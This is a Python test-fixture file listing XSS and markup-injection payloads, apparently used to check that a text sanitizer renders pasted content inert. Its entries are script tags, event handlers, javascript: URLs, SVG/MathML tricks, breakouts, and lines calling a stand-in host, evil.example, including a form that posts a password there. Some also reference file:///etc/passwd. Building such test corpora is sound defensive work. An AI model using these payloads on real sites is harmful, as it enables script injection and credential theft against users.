"""A corpus of XSS and markup payloads: what a hostile or careless paste might put in a text.

Each entry is (id, payload). The ids are readable test ids. `tests/test_security.py` saves every
payload into every user-written field and checks that it comes out inert in the HTML pages, the
compiled PDF and the admin. The corpus covers script tags, event handlers, dangerous URL schemes,
SVG and MathML tricks, CSS, <base>, <meta refresh>, frames, objects, forms, comment and CDATA
breakouts, attribute-quote breakouts, encoded entities, unicode escapes, mis-nested tags, Word's
conditional comments and namespaced tags, stylesheets and attachments, local files, local
network addresses and a huge data: image.

Plain words ("Ofarlig text") are mixed in with some payloads, so a test can also see that the
harmless part of a paste survives.
"""

from __future__ import annotations

import base64

# A valid 1×1 PNG, repeated into a ~150 kB data: URI (below MAX_TEXT_LENGTH, above any image limit).
_PNG_1x1 = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
HUGE_DATA_IMAGE = '<img src="data:image/png;base64,' + base64.b64encode(_PNG_1x1 * 2000).decode() + '" alt="stor bild">'

PAYLOADS: list[tuple[str, str]] = [
    # --- script tags ------------------------------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-src", '<script src="http://evil.example/x.js"></script>'),
    ("script-uppercase", "<SCRIPT>alert(document.cookie)</SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-paragraph", "<p>Ofarlig text<script>fetch('/admin/')</script> och mer.</p>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-type-module", '<script type="module">import("http://evil.example/m.js")</script>'),
    ("script-nested-in-list", "<ul><li>Punkt<script>alert(1)</script></li></ul>"),
    # --- event handlers ---------------------------------------------------------------------
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("img-onerror-unquoted", "<img src=x onerror=alert(1)//>"),
    ("body-onload", "<body onload=alert(1)>Ofarlig text</body>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)">Ofarlig text</p>'),
    ("strong-onmouseover", '<strong onmouseover="alert(1)">fet</strong>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    # --- dangerous URL schemes --------------------------------------------------------------
    ("a-javascript", '<a href="javascript:alert(1)">klicka</a>'),
    ("a-javascript-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("a-javascript-mixed-case", '<a href=" JaVaScRiPt:alert(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("img-javascript-src", '<img src="javascript:alert(1)">'),
    ("form-action-javascript", '<form action="javascript:alert(1)"><button>Skicka</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    # --- SVG and MathML ---------------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'),
    ("svg-animate-href", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    # --- CSS ---------------------------------------------------------------------------------
    ("style-expression", '<p style="width: expression(alert(1))">Ofarlig text</p>'),
    ("style-url", '<p style="background:url(http://evil.example/bg.png)">Ofarlig text</p>'),
    ("style-tag-import", "<style>@import url(http://evil.example/x.css);</style><p>Ofarlig text</p>"),
    ("style-tag-file", "<style>body{background:url(file:///etc/passwd)}</style>"),
    ("style-behavior", '<div style="behavior:url(x.htc)">x</div>'),
    ("link-stylesheet", '<link rel="stylesheet" href="http://evil.example/x.css">'),
    ("link-attachment", '<link rel="attachment" href="file:///etc/passwd">'),
    ("a-rel-attachment", '<a rel="attachment" href="file:///etc/passwd">bilaga</a>'),
    # --- page-level elements ----------------------------------------------------------------
    ("base-href", '<base href="http://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-csp", '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'),
    ("iframe-src", '<iframe src="http://evil.example/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="http://evil.example/x.swf"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("form-action-external", '<form action="http://evil.example/" method="post"><input name="password"></form>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("template-content", "<template><script>alert(1)</script></template>"),
    # --- breakouts ---------------------------------------------------------------------------
    ("comment-breakout", "<!-- --><script>alert(1)</script><!-- -->"),
    ("comment-bang-breakout", "<!--><script>alert(1)</script>-->"),
    ("cdata-breakout", "<![CDATA[<]]><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("attr-double-quote", '" onmouseover="alert(1)" x="'),
    ("attr-single-quote", "' onmouseover='alert(1)' x='"),
    ("attr-close-tag", '"><script>alert(1)</script>'),
    ("style-close-breakout", "</style><script>alert(1)</script>"),
    # --- encodings and unicode ---------------------------------------------------------------
    ("entity-encoded-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("unicode-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("null-byte-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("rtl-override", "<p>Ofarlig \u202etxet\u202c text</p>"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    # --- mis-nested and malformed ------------------------------------------------------------
    ("mis-nested", "<p><strong><em>Ofarlig</strong> text</em></p><ul><p>fel</li></ol>"),
    ("unclosed-attr", '<p title="a>Ofarlig text</p><img src=x onerror=alert(1)>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("select-mxss", "<select><template><style><img src=x onerror=alert(1)></style></template></select>"),
    ("deep-nesting", "<ul>" * 200 + "<li>djup</li>" + "</ul>" * 200),
    # --- Word -------------------------------------------------------------------------------
    (
        "word-conditional",
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->"
        "<p>Ofarlig text</p>",
    ),
    ("word-conditional-script", "<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->"),
    ("word-o-p", '<p class=MsoNormal style="mso-list:l0"><b>Rubrik</b><o:p>&nbsp;</o:p></p>'),
    ("word-vml-image", '<v:shape><v:imagedata src="file:///C:/Users/x/AppData/clip_image001.png"/></v:shape>'),
    # --- local files and the local network --------------------------------------------------
    ("img-etc-passwd", '<img src="file:///etc/passwd" alt="x">'),
    ("img-localhost-port", '<img src="http://127.0.0.1:9/x">'),
    ("img-srcset", '<img srcset="http://127.0.0.1:9/x 1x, file:///etc/passwd 2x">'),
    ("picture-source", '<picture><source srcset="http://evil.example/a.png"><img src="x"></picture>'),
    ("huge-data-image", HUGE_DATA_IMAGE),
]

assert len(PAYLOADS) >= 50, len(PAYLOADS)
assert len({pid for pid, _ in PAYLOADS}) == len(PAYLOADS), "payload ids must be unique"

PAYLOAD_IDS = [pid for pid, _ in PAYLOADS]
PAYLOAD_VALUES = [value for _, value in PAYLOADS]
